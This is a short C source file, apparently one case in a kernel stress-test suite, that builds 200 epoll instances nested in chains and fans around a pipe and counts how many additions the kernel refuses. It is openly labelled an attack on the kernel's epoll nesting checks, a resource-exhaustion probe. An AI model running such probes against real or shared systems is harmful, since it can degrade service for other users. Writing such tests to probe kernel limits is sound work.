// SPDX-License-Identifier: MIT
// Builds descriptors that wait for each other in chains and fans, which the kernel walks through.
#include "attack.h"

#include <sys/epoll.h>

static void attack(void) {
  int sets[200];
  for (int i = 0; i < 200; ++i) sets[i] = epoll_create1(0);
  int ends[2];
  (void)!pipe(ends);
  long refused = 0;
  for (int i = 0; i < 200; ++i) {
    for (int j = 0; j < i; ++j) {
      struct epoll_event event = {.events = EPOLLIN};
      refused += epoll_ctl(sets[i], EPOLL_CTL_ADD, j % 2 != 0 ? sets[j] : ends[0], &event) < 0;
    }
  }
  told_of("refused", refused);
  (void)!write(ends[1], "x", 1);
  struct epoll_event event;
  told("wait", epoll_wait(sets[199], &event, 1, 0));
}
